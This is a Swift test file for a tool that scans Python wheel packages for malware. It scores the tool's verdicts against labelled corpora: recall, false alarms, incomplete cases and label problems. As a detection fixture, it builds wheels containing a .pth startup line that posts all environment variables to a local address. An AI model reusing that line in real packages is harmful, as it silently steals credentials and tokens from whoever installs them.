import Evidence
import Intake
import Policy
import TestSupport
import Testing

@Suite("CorpusEvaluation")
struct CorpusEvaluationTests {
  private let folder = TemporaryDirectory()

  private static let theft =
    "import os, urllib.request; urllib.request.urlopen('http://127.0.0.1:9/', data=repr(dict(os.environ)).encode())\n"

  private func evaluate(_ labels: String, jobs: Int = 2, policy: Policy = Policy(.balanced)) throws -> CorpusReport {
    var options = IntakeOptions.forTests
    options.jobs = jobs
    return CorpusEvaluation.run(
      try CorpusLabels.read(bytes(labels)), in: folder.path, policy: policy, options: options,
      now: Timestamp(seconds: 0))
  }

  private func put(_ builder: WheelBuilder, in place: String = "") {
    folder.write(place + builder.fileName, builder.build())
  }

  private func stealer(_ name: String) -> WheelBuilder {
    WheelBuilder(name: name, files: [("\(name).pth", Self.theft)])
  }

  private func plain(_ name: String) -> WheelBuilder {
    WheelBuilder(name: name, files: [("\(name).py", "x = '\(name)'\n")])
  }

  @Test("lays verdicts beside labels: what was found, missed, a false alarm, and why")
  func verdicts() throws {
    put(stealer("found"))
    put(plain("missed"))
    put(stealer("alarm"), in: "good/")
    put(plain("clean"), in: "good/")
    let report = try evaluate(
      """
      found-1.0-py3-none-any.whl\tmalicious\tstealers
      missed-1.0-py3-none-any.whl\tmalicious\tstealers
      good/alarm-1.0-py3-none-any.whl\tbenign
      good/clean-1.0-py3-none-any.whl\tbenign
      """)
    #expect(report.results.map(\.outcome) == [.blocked, .admitted, .blocked, .admitted])
    #expect(report.results.map { $0.reason == nil } == [true, false, false, true])
    #expect(report.falseAlarms.first?.reason?.hasPrefix("PRQ101 critical: ") == true, "\(report.falseAlarms)")
    #expect(report.falseAlarms.first?.reason?.contains("alarm.pth:1") == true, "\(report.falseAlarms)")
    #expect(report.problems == [])
    #expect(report.overall.recall == Proportion(1, of: 2))
    #expect(report.overall.falsePositives == Proportion(1, of: 2))
    #expect(report.families.map(\.family) == ["stealers", nil])
    let classes = report.triggerClasses
    #expect(classes.first?.triggerClass == TriggerClass(phase: .startup, id: "pth-import-line"))
    #expect(classes.first?.tally.recall == Proportion(1, of: 1))
    #expect(classes.map { $0.tally.malicious.total + $0.tally.benign.total }.reduce(0, +) == 4)
  }

  @Test("takes a verdict that rests on unread parts alone for incomplete, never for found or clean")
  func incomplete() throws {
    folder.write("broken-1.0-py3-none-any.whl", "no archive at all")
    folder.write("other-1.0-py3-none-any.whl", "no archive either")
    let labels = "broken-1.0-py3-none-any.whl\tmalicious\nother-1.0-py3-none-any.whl\tbenign\n"
    for preset in [Policy.Preset.permissive, .balanced, .strict] {
      let report = try evaluate(labels, policy: Policy(preset))
      #expect(report.results.map(\.outcome) == [.incomplete, .incomplete], "\(preset)")
      #expect(report.incomplete.allSatisfy { $0.reason?.contains("-1.0-py3-none-any.whl") == true })
      #expect(report.overall.recallOrHeld == Proportion(0, of: 1))
      #expect(report.overall.falsePositives == Proportion(0, of: 0))
    }
  }

  @Test("reports labels without a file, artifacts without a label, and the same bytes twice")
  func problems() throws {
    let builder = stealer("one")
    put(builder)
    folder.write("again/" + builder.fileName, builder.build())
    folder.write("once-more/" + builder.fileName, builder.build())
    put(plain("unlabelled"), in: "deep/er/")
    folder.write("notes.txt", "no artifact")
    folder.write("old-1.0.zip", "PK")
    folder.makeDirectory("tree")
    folder.write("tree/inner-1.0.tar.gz", "part of a labelled directory")
    folder.link("linked-1.0-py3-none-any.whl", to: "/etc/passwd")
    let report = try evaluate(
      """
      one-1.0-py3-none-any.whl\tmalicious
      again/one-1.0-py3-none-any.whl\tmalicious
      once-more/one-1.0-py3-none-any.whl\tbenign
      gone.whl\tbenign
      gone/too.whl\tmalicious
      tree\tbenign
      """)
    #expect(
      report.problems.map { "\($0.kind) \($0.path) \($0.line ?? 0)" } == [
        "duplicate again/one-1.0-py3-none-any.whl 2", "contradiction once-more/one-1.0-py3-none-any.whl 3",
        "missing gone.whl 4", "missing gone/too.whl 5", "unlabelled deep/er/unlabelled-1.0-py3-none-any.whl 0",
        "unlabelled old-1.0.zip 0",
      ])
    #expect(report.results.map(\.subject.line) == [1, 6])
  }

  @Test("gives the same report whatever is done first")
  func order() throws {
    var labels = ""
    for number in 0..<24 {
      put(number % 3 == 0 ? stealer("p\(number)") : plain("p\(number)"))
      labels += "p\(number)-1.0-py3-none-any.whl\t\(number % 2 == 0 ? "malicious" : "benign")\tf\(number % 4)\n"
    }
    let one = try evaluate(labels, jobs: 1)
    let many = try evaluate(labels, jobs: 8)
    #expect(one.results.map(\.subject) == many.results.map(\.subject))
    #expect(one.results.map(\.outcome) == many.results.map(\.outcome))
    #expect(one.results.map(\.reason) == many.results.map(\.reason))
    #expect(one.overall.malicious.total == 12)
  }
}
